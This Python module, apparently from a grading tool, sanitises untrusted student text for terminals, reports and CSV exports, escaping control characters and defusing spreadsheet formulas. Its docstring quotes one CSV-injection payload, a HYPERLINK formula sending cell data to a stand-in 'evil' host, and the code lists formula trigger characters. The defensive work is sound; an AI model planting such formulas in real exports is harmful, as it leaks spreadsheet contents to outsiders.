"""Making untrusted text safe for the places it ends up in: reports and terminals, spreadsheet cells (CSV exports).

Messages quote exception texts, output names and file names that student code chose. :func:`printable` turns
lone surrogates (which no UTF-8 file, terminal, XML document or SQLite text can hold) into text and shows
control characters as escapes, so ANSI/OSC sequences, NULs, carriage returns and bidirectional overrides cannot
repaint a terminal, break a JUnit XML file or forge a report line. A file name that is not UTF-8 (Latin-1
``j\\xf6rg`` from an older system) reaches Python with its raw bytes as surrogates; each such byte is shown as its
``\\xNN`` escape, so ``j\\xf6rg`` and ``j\\xfcrg`` stay two readable, distinct names (student ids among them).

Student ids, names and feedback (which quotes student output and exception messages) are untrusted. A CSV cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets ("CSV injection"), e.g. ``=HYPERLINK("http://evil/?"&A1)`` or a DDE command. :func:`csv_safe`
prefixes such cells with an apostrophe, which every spreadsheet shows as plain text.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
_INVISIBLE = re.compile(r"^[\s\u00a0\u200b-\u200f\u2060\ufeff]+")
_ESCAPED_BYTE = re.compile("[\udc80-\udcff]")  # a byte that was not UTF-8, as os.fsdecode keeps it
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


def printable(text: Any, one_line: bool = False) -> str:
    """``text`` as a string safe to print, write as UTF-8, put in XML or store in SQLite.

    A byte that was not UTF-8 in a file name (a surrogate-escaped byte, as ``os.fsdecode`` keeps it) becomes its
    escape ``\\xNN``; other lone surrogates become ``?``; control characters other than newline and tab, and
    bidirectional overrides, become visible escapes such as ``\\x1b``. With ``one_line``, newlines and tabs
    become spaces (so a message cannot forge lines of a report).
    """
    value = text if isinstance(text, str) else str(text)
    value = _ESCAPED_BYTE.sub(lambda match: f"\\x{ord(match.group()) - 0xDC00:02x}", value)
    value = value.encode("utf-8", "replace").decode("utf-8")
    if one_line:
        value = value.replace("\r\n", " ").replace("\n", " ").replace("\t", " ")
    return _CONTROL.sub(lambda match: f"\\x{ord(match.group()):02x}" if ord(match.group()) < 0x100
                        else f"\\u{ord(match.group()):04x}", value)


def csv_safe(text: Any) -> str:
    """Return ``text`` as a string that no spreadsheet will evaluate as a formula.

    Cells whose first visible character could start a formula (``= + - @``, their full-width forms, a tab, a
    carriage return or a line feed, also after leading spaces or invisible characters) get a leading ``'``.
    Plain numbers such as ``-3.5`` are left alone so numeric columns stay numeric.

    Args:
        text: Any value; None becomes an empty string, everything else is converted with ``str``.

    Returns:
        The safe cell text.
    """
    if text is None:
        return ""
    value = text if isinstance(text, str) else str(text)
    if not value or _PLAIN_NUMBER.match(value):
        return value
    visible = _INVISIBLE.sub("", value)
    if value.startswith(FORMULA_TRIGGERS) or visible.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
